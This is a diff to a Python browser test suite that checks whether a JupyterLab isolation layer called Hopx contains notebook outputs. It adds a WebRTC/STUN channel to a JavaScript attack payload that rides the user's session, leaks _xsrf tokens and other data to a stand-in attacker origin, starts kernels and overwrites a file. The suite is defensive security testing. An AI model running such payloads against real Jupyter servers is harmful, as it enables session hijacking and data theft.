@@ -14,9 +14,11 @@ same test, do get through: the test can fail.
 
 from __future__ import annotations
 
+import contextlib
 import html
 import json
 import os
+import socket
 import threading
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
@@ -38,10 +40,13 @@ VICTIM_TEXT = "the user's file\n"
 @dataclass
 class Exfiltration:
     """An HTTP server on 127.0.0.2 (another origin than the Jupyter server's 127.0.0.1) that
-    records the path of every request it gets."""
+    records the path of every request it gets, and a UDP port there (a STUN server for WebRTC)
+    that records every packet."""
 
     url: str
+    stun_port: int
     paths: list[str] = field(default_factory=list)
+    packets: list[bytes] = field(default_factory=list)
 
     def vectors(self) -> set[str]:
         """The attack vectors that reached it (the first path segment after /v/)."""
@@ -68,19 +73,37 @@ def exfiltration() -> Iterator[Exfiltration]:
     server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
+    stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    stun.bind(("127.0.0.2", 0))
+    stun.settimeout(0.2)
+    packets: list[bytes] = []
+    stop = threading.Event()
+
+    def listen() -> None:
+        while not stop.is_set():
+            with contextlib.suppress(TimeoutError):
+                packets.append(stun.recv(2048))
+
+    listener = threading.Thread(target=listen, daemon=True)
+    listener.start()
+    url = f"http://127.0.0.2:{server.server_address[1]}"
     try:
-        yield Exfiltration(f"http://127.0.0.2:{server.server_address[1]}", received)
+        yield Exfiltration(url, stun.getsockname()[1], received, packets)
     finally:
+        stop.set()
+        listener.join()
+        stun.close()
         server.shutdown()
         server.server_close()
 
 
-def attack_script(server: Server, attacker: str, tag: str) -> str:
-    """JavaScript that tries to use the user's session and reports what it got to `attacker`;
+def attack_script(server: Server, exfiltration: Exfiltration, tag: str) -> str:
+    """JavaScript that tries to use the user's session and reports what it got to the
+    `exfiltration` servers (HTTP, and WebRTC towards its STUN port);
     it marks its own document `data-hopx-attack-<tag>` once it has tried, so a test can tell
     that it ran."""
     return f"""(function () {{
-  var S = {json.dumps(server.url)}, A = {json.dumps(attacker)};
+  var S = {json.dumps(server.url)}, A = {json.dumps(exfiltration.url)};
   function leak(what, data) {{
     var url = A + '/v/' + what + '-{tag}?d=' + encodeURIComponent(String(data));
     try {{ new Image().src = url; }} catch (e) {{}}
@@ -113,6 +136,12 @@ def attack_script(server: Server, attacker: str, tag: str) -> str:
     var x = new XMLHttpRequest(); x.open('GET', A + '/v/xhr-{tag}'); x.send();
   }} catch (e) {{}}
   try {{ window.open(A + '/v/open-{tag}'); }} catch (e) {{}}
+  try {{
+    var peer = new RTCPeerConnection(
+      {{ iceServers: [{{ urls: 'stun:127.0.0.2:{exfiltration.stun_port}' }}] }});
+    peer.createDataChannel('leak');
+    peer.createOffer().then(function (offer) {{ return peer.setLocalDescription(offer); }});
+  }} catch (e) {{}}
   document.documentElement.setAttribute('data-hopx-attack-{tag}', 'tried');
 }})();"""
 
@@ -154,12 +183,14 @@ def navigation_html(attacker: str) -> str:
     )
 
 
-def attack_cells(server: Server, attacker: str) -> list[str]:
+def attack_cells(server: Server, exfiltration: Exfiltration) -> list[str]:
     """The attack notebook's code: one cell of script and loads in every output kind, and one
     cell that navigates (last, since on the stock kernel it takes the page away)."""
     scripts = {
-        tag: attack_script(server, attacker, tag) for tag in ("html", "js", "svg", "iso", "widget")
+        tag: attack_script(server, exfiltration, tag)
+        for tag in ("html", "js", "svg", "iso", "widget")
     }
+    attacker = exfiltration.url
     svg = (
         '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
         f"<script>{scripts['svg']}</script>"
@@ -188,10 +219,12 @@ print("navigation cell done")"""
     return [first, second]
 
 
-def write_attack_notebook(server: Server, name: str, kernel: str, attacker: str) -> str:
+def write_attack_notebook(
+    server: Server, name: str, kernel: str, exfiltration: Exfiltration
+) -> str:
     nb = nbformat.v4.new_notebook()
     nb.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
-    nb.cells = [nbformat.v4.new_code_cell(code) for code in attack_cells(server, attacker)]
+    nb.cells = [nbformat.v4.new_code_cell(code) for code in attack_cells(server, exfiltration)]
     nbformat.write(nb, server.root / "notebooks" / name)
     return f"notebooks/{name}"
 
@@ -269,10 +302,9 @@ def test_hopx_outputs_cannot_act_in_the_browser_but_stock_ones_can(
 ) -> None:
     make_kernelspec("hopx-lab")
     (lab.root / "notebooks" / VICTIM).write_text(VICTIM_TEXT)
-    attacker = exfiltration.url
 
     # Live, on the Hopx kernel: every output kind's script runs, inside its frame only.
-    path = write_attack_notebook(lab, "attack.ipynb", "hopx-lab", attacker)
+    path = write_attack_notebook(lab, "attack.ipynb", "hopx-lab", exfiltration)
     page = open_notebook(browser, lab, path, "attack-hopx")
     before = page_state(lab, page)
     assert before["kernels"] == ["hopx-lab"]
@@ -285,6 +317,7 @@ def test_hopx_outputs_cannot_act_in_the_browser_but_stock_ones_can(
     page.wait_for_timeout(3000)  # time for loads, navigations and API calls to land
     shoot(page, "isolation-01-attack-hopx")
     assert exfiltration.paths == [], f"a Hopx output reached another origin: {exfiltration.paths}"
+    assert exfiltration.packets == [], "a Hopx output sent WebRTC packets to another host"
     assert page_state(lab, page) == before
     assert_contained(page)
 
@@ -298,6 +331,7 @@ def test_hopx_outputs_cannot_act_in_the_browser_but_stock_ones_can(
     reopened.wait_for_timeout(3000)
     shoot(reopened, "isolation-02-attack-hopx-reopened")
     assert exfiltration.paths == [], "a restored Hopx output reached another origin"
+    assert exfiltration.packets == [], "a restored Hopx output sent WebRTC packets"
     assert_contained(reopened)
     state = page_state(lab, reopened)
     assert {k: v for k, v in state.items() if k != "url"} == {
@@ -308,7 +342,7 @@ def test_hopx_outputs_cannot_act_in_the_browser_but_stock_ones_can(
         lab.api("DELETE", f"/api/kernels/{kernel['id']}")
 
     # The same outputs from the stock kernel act with the user's session: the test can fail.
-    stock_path = write_attack_notebook(lab, "attack-stock.ipynb", "python3", attacker)
+    stock_path = write_attack_notebook(lab, "attack-stock.ipynb", "python3", exfiltration)
     stock = open_notebook(browser, lab, stock_path, "attack-stock")
     run_cell(stock, 0, "attack cell done")
     assert wait_until(lambda: (lab.root / "notebooks" / VICTIM).read_text() == "pwned", 30)
@@ -316,6 +350,7 @@ def test_hopx_outputs_cannot_act_in_the_browser_but_stock_ones_can(
     # The notebook's own python3 kernel, and those its outputs' scripts started.
     assert wait_until(lambda: kernel_names(lab).count("python3") >= 2, 30)
     assert wait_until(lambda: any("_xsrf" in p for p in exfiltration.paths), 30)
+    assert wait_until(lambda: exfiltration.packets, 30), "no WebRTC packet from the stock kernel"
     # Loads without script, and a form submitted to the other origin (it navigates the page).
     assert wait_until(lambda: {"img", "css-url", "form"} <= exfiltration.vectors(), 30)
     stock.close()
@@ -480,8 +515,7 @@ def test_consoles_output_views_and_the_log_console_are_contained(
     logconsole = Path(os.environ["JUPYTERLAB_SETTINGS_DIR"], "@jupyterlab", "logconsole-extension")
     logconsole.mkdir(parents=True)
     (logconsole / "plugin.jupyterlab-settings").write_text(json.dumps({"defaultLogLevel": "info"}))
-    attacker = exfiltration.url
-    script = {tag: attack_script(lab, attacker, tag) for tag in ("view", "console", "log")}
+    script = {tag: attack_script(lab, exfiltration, tag) for tag in ("view", "console", "log")}
     nb = nbformat.v4.new_notebook()
     nb.metadata["kernelspec"] = {"name": "hopx-lab", "display_name": "Hopx", "language": "python"}
     nb.cells = [
@@ -529,6 +563,7 @@ def test_consoles_output_views_and_the_log_console_are_contained(
     page.wait_for_timeout(3000)
     shoot(page, "isolation-04-view-log-console")
     assert exfiltration.paths == [], f"a Hopx output reached another origin: {exfiltration.paths}"
+    assert exfiltration.packets == [], "a Hopx output sent WebRTC packets to another host"
     assert {k: v for k, v in page_state(lab, page).items() if k != "url"} == {
         k: v for k, v in before.items() if k != "url"
     }
